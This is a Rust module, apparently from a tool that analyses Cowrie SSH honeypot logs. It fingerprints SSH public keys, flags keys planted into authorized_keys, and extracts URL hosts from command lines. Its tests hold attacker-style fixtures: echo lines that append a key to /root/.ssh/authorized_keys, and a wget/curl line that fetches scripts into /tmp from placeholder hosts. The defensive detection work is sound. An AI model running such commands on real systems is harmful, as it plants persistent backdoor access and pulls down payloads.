//! SSH public keys and URLs found in Cowrie records and command lines: the
//! `SHA256:` fingerprint of a key (OpenSSH's form), keys planted into an
//! `authorized_keys` file, and the hosts of URLs (C2 endpoints).

use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD};
use base64::Engine;
use sha2::{Digest, Sha256};

/// Key types OpenSSH writes in `authorized_keys` lines.
const KEY_TYPES: [&str; 8] = [
    "ssh-ed25519",
    "ssh-rsa",
    "ssh-dss",
    "ecdsa-sha2-nistp256",
    "ecdsa-sha2-nistp384",
    "ecdsa-sha2-nistp521",
    "sk-ssh-ed25519@openssh.com",
    "sk-ecdsa-sha2-nistp256@openssh.com",
];

/// Longest key blob read (an RSA-16384 key is about 2.8 KB of base64).
const MAX_BLOB_CHARS: usize = 8_192;

/// The `SHA256:` fingerprint of a key blob: unpadded base64 of its SHA-256.
pub fn fingerprint_blob(blob: &[u8]) -> String {
    format!("SHA256:{}", STANDARD_NO_PAD.encode(Sha256::digest(blob)))
}

/// Every public key written out in `text` (`<type> <base64>`, any quoting
/// or comment around it), as `SHA256:` fingerprints in order of
/// appearance, without repeats. A blob counts only when it decodes and
/// names its own type inside (as every real key blob does), so random
/// words after `ssh-rsa` are not keys.
pub fn keys_in(text: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        let Some(ty) = KEY_TYPES
            .iter()
            .find(|t| bytes[i..].starts_with(t.as_bytes()))
        else {
            i += 1;
            continue;
        };
        // The type must start a word: not the tail of a longer name.
        let starts_word = i == 0 || !is_word_byte(bytes[i - 1]);
        let mut j = i + ty.len();
        i += 1;
        if !starts_word || !bytes.get(j).is_some_and(|b| *b == b' ' || *b == b'\t') {
            continue;
        }
        while bytes.get(j).is_some_and(|b| *b == b' ' || *b == b'\t') {
            j += 1;
        }
        let start = j;
        while j < bytes.len() && j - start < MAX_BLOB_CHARS && is_base64_byte(bytes[j]) {
            j += 1;
        }
        if let Some(fp) = blob_fingerprint(ty, &text[start..j]) {
            if !out.contains(&fp) {
                out.push(fp);
            }
        }
    }
    out
}

/// The keys a command line appends to an `authorized_keys` file: a line
/// that names such a file and redirects or tees into it.
pub fn planted_keys(line: &str) -> Vec<String> {
    let writes = line.contains(">") || line.contains("tee");
    if !line.contains("authorized_keys") || !writes {
        return Vec::new();
    }
    keys_in(line)
}

fn blob_fingerprint(ty: &str, b64: &str) -> Option<String> {
    let trimmed = b64.trim_end_matches('=');
    let blob = STANDARD_NO_PAD
        .decode(trimmed)
        .or_else(|_| STANDARD.decode(b64))
        .ok()?;
    // A key blob starts with its type as an SSH string (u32 length, bytes).
    let len = u32::from_be_bytes(blob.get(..4)?.try_into().ok()?) as usize;
    (blob.get(4..4 + len)? == ty.as_bytes()).then(|| fingerprint_blob(&blob))
}

fn is_base64_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'='
}

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'-' || b == b'_' || b == b'@' || b == b'.'
}

/// The hosts of the URLs in `text` (`http`, `https`, `ftp`, `tftp`),
/// lowercased, without user info or port, in order, without repeats.
pub fn url_hosts(text: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let lower = text.to_ascii_lowercase();
    let mut from = 0;
    while let Some(pos) = lower[from..].find("://") {
        let at = from + pos;
        from = at + 3;
        let scheme_start = lower[..at]
            .rfind(|c: char| !c.is_ascii_alphabetic())
            .map_or(0, |p| p + 1);
        if !matches!(&lower[scheme_start..at], "http" | "https" | "ftp" | "tftp") {
            continue;
        }
        if let Some(h) = url_host(&lower[at..]) {
            if !out.contains(&h) {
                out.push(h);
            }
        }
    }
    out
}

/// The host of `url`: a full URL (`scheme://host…`) or the part from `://`.
pub fn url_host(url: &str) -> Option<String> {
    let lower = url.to_ascii_lowercase();
    let rest = &lower[lower.find("://")? + 3..];
    let authority_end = rest
        .find(|c: char| {
            c.is_whitespace()
                || matches!(
                    c,
                    '/' | '?' | '#' | '\'' | '"' | ';' | '|' | '&' | ')' | '`' | '<' | '>'
                )
        })
        .unwrap_or(rest.len());
    let authority = &rest[..authority_end];
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        v6.split(']').next().unwrap_or("")
    } else {
        host_port.split(':').next().unwrap_or("")
    };
    let ok = !host.is_empty()
        && host.len() <= 253
        && host
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_' | b':'));
    ok.then(|| host.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    const KEY: &str =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEfJlzyClKJNEdKVPuvhnyFsfXd25xaqXyCshQOTM1DU";
    const FP: &str = "SHA256:P1nQrZ0SK5ofVLcHZS04mOIFZ8844/aHVLng1KB5DQs";

    #[test]
    fn a_key_line_gives_openssh_fingerprint() {
        assert_eq!(keys_in(KEY), vec![FP.to_string()]);
        assert_eq!(
            keys_in(&format!("{KEY} root@build box")),
            vec![FP.to_string()]
        );
    }

    #[test]
    fn planted_keys_whatever_the_quoting() {
        for line in [
            format!("echo '{KEY} root@build box'>>/root/.ssh/authorized_keys"),
            format!("echo \"{KEY} x@y\" >> ~/.ssh/authorized_keys"),
            format!("echo {KEY}|tee -a .ssh/authorized_keys"),
        ] {
            assert_eq!(planted_keys(&line), vec![FP.to_string()], "{line}");
        }
        assert!(planted_keys(&format!("echo '{KEY}' > /tmp/k")).is_empty());
        assert!(planted_keys("cat ~/.ssh/authorized_keys").is_empty());
    }

    #[test]
    fn words_that_are_not_keys_are_not_keys() {
        assert!(keys_in("ssh-rsa hello >> authorized_keys").is_empty());
        assert!(keys_in("ssh-ed25519 AAAAB3NzaC1yc2EAAAADAQABAAABAQ").is_empty());
        assert!(keys_in(
            "xssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEfJlzyClKJNEdKVPuvhnyFsfXd25xaqXyCshQOTM1DU"
        )
        .is_empty());
    }

    #[test]
    fn url_hosts_in_command_lines() {
        let line =
            "cd /tmp; wget http://203.0.113.5/a.sh; curl -O HTTP://User@Dl.Example.net:8080/b.bin";
        assert_eq!(url_hosts(line), vec!["203.0.113.5", "dl.example.net"]);
        assert_eq!(
            url_host("http://[2001:db8::1]:80/x").as_deref(),
            Some("2001:db8::1")
        );
        assert_eq!(url_host("http:///x"), None);
        assert_eq!(url_hosts("gopher://a.b/ http://"), Vec::<String>::new());
    }
}
